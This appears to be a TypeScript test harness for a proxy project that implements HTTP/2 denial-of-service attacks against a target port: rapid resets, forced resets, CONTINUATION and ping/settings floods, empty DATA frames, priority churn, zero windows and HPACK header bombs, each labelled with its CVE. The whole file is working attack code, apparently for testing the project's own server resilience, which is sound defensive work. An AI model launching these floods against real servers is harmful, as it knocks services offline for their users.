/** Attacks over HTTP/2 by clients that come back as often as they are thrown out. */
import type { Socket } from "node:net";
import {
  buildFrame,
  buildPreface,
  encodeGet,
  encodeString,
  endHeaders,
  endStream,
} from "../../../../packages/proxy/test/support/http2-frames.ts";
import { type AttackTarget, type BeginAttack, Crowd, flood } from "./crowd.ts";

/** Connections of one process: what they do on each is without end. */
const connections = 10;
const returnsAfterMs = 1_000;
const batch = 100;
const lastStream = 2 ** 31 - 1;

type Settings = Parameters<typeof buildPreface>[0];

const attack =
  (act: (socket: Socket) => void, settings: Settings = []): BeginAttack =>
  ({ port }: AttackTarget) =>
    Crowd.gather({
      port,
      clients: connections,
      perSecond: connections,
      returnsAfterMs,
      act: (socket) => {
        socket.resume();
        socket.write(buildPreface(settings));
        act(socket);
      },
    });

/** Calls `build` with the number of each new stream, so many at a time. */
function floodStreams(socket: Socket, build: (stream: number) => readonly Buffer[], atOnce = batch): void {
  let stream = -1;
  flood(socket, () =>
    Buffer.concat(
      Array.from({ length: atOnce }, () => {
        stream += 2;
        return stream < lastStream ? Buffer.concat(build(stream)) : Buffer.alloc(0);
      }),
    ),
  );
}

const getLarge = encodeGet("/large");
const getSmall = encodeGet("/small");
const cancel = Buffer.from([0, 0, 0, 8]);
const opening = (stream: number, payload: Buffer, flags = endHeaders | endStream): Buffer =>
  buildFrame({ type: "headers", flags, stream, payload });

/** Requests that are reset at once (CVE-2023-44487). */
export const rapidResets = attack((socket) =>
  floodStreams(socket, (stream) => [opening(stream, getLarge), buildFrame({ type: "reset", stream, payload: cancel })]),
);

/** Requests that the server has to reset: their window is enlarged by nothing (CVE-2025-8671). */
export const forcedResets = attack((socket) =>
  floodStreams(socket, (stream) => [
    opening(stream, getLarge),
    buildFrame({ type: "windowUpdate", stream, payload: Buffer.alloc(4) }),
  ]),
);

/** A head that goes on and on (CVE-2024-27983, CVE-2024-30255). */
export const continuations = attack((socket) => {
  socket.write(opening(1, getSmall, 0));
  const header = Buffer.concat([Buffer.from([0]), encodeString("x-more"), encodeString("a".repeat(1_000))]);
  const frame = buildFrame({ type: "continuation", stream: 1, payload: header });
  const frames = Buffer.concat(Array.from({ length: 10 }, () => frame));
  flood(socket, () => frames);
});

const repeatFrame = (frame: Buffer, reads = true): BeginAttack => {
  const frames = Buffer.concat(Array.from({ length: batch * 10 }, () => frame));
  return attack((socket) => {
    if (!reads) socket.pause();
    flood(socket, () => frames);
  });
};

/** Each wants an answer, which nobody reads (CVE-2019-9512, CVE-2019-9515). */
export const pings = repeatFrame(buildFrame({ type: "ping", payload: Buffer.alloc(8) }), false);
export const settings = repeatFrame(
  buildFrame({ type: "settings", payload: Buffer.from([0, 3, 0, 0, 0, 100]) }),
  false,
);
/** The same, with the answers read: nothing piles up, and the server has only the work. */
export const readPings = repeatFrame(buildFrame({ type: "ping", payload: Buffer.alloc(8) }));

/** Pieces of a body without a byte in them (CVE-2019-9518). */
export const emptyData = attack((socket) => {
  socket.write(opening(1, getSmall, endHeaders));
  const frames = Buffer.concat(Array.from({ length: batch * 10 }, () => buildFrame({ type: "data", stream: 1 })));
  flood(socket, () => frames);
});

/** Priorities of streams that depend on each other, changed without end (CVE-2019-9513). */
export const priorities = attack((socket) =>
  floodStreams(socket, (stream) => {
    const payload = Buffer.from([0, 0, 0, 0, 16]);
    payload.writeUInt32BE((stream + 2) % 101, 0);
    return [buildFrame({ type: "priority", stream: 1 + (stream % 100), payload })];
  }),
);

/** Leave to send, given a byte at a time. */
export const windowUpdates = repeatFrame(buildFrame({ type: "windowUpdate", payload: Buffer.from([0, 0, 0, 1]) }));

const initialWindow = 4;

/** Long answers to many requests, none of which may be sent (CVE-2019-9517). */
export const zeroWindows = attack(
  (socket) => {
    for (let index = 0; index < batch; index++) socket.write(opening(1 + 2 * index, getLarge));
  },
  [[initialWindow, 0]],
);

/** A long header said once and meant thousands of times. */
export const headerBombs = attack((socket) => {
  const bomb = Buffer.concat([
    getSmall,
    Buffer.from([0x40]),
    encodeString("x-bomb"),
    encodeString("a".repeat(3_900)),
    Buffer.alloc(8_000, 0x80 | 62),
  ]);
  floodStreams(socket, (stream) => [opening(stream, bomb)], 2);
});
